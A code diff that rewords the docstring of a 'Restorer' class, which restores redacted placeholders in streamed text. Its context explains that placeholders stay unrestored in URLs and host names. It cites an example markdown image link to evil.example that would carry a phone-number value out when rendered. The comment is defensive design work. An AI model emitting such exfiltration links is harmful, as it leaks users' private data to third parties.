@@ -116,10 +116,10 @@ class _Match(NamedTuple):
 class Restorer:
     """Restores placeholders in a text that comes in pieces.
 
-    ``feed`` returns all that is certain; held back is only what could still become a placeholder that was
-    issued, and one that a host name may follow: to the next space or punctuation mark, 512 characters at
-    most. Together the pieces are the same however the text was cut. Restored values are not searched again,
-    so a value that contains the text of a placeholder stays what it is.
+    ``feed`` returns all that is certain; held back is only what could still become a placeholder, and one
+    that a host name may follow: to the next space or punctuation mark, 512 characters at most. Together the
+    pieces are the same however the text was cut. Restored values are not searched again, so a value that
+    contains the text of a placeholder stays what it is.
 
     A placeholder stays as it is where a program that shows the text might send the value to somebody, for the
     other side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``: in URLs and host names, in targets
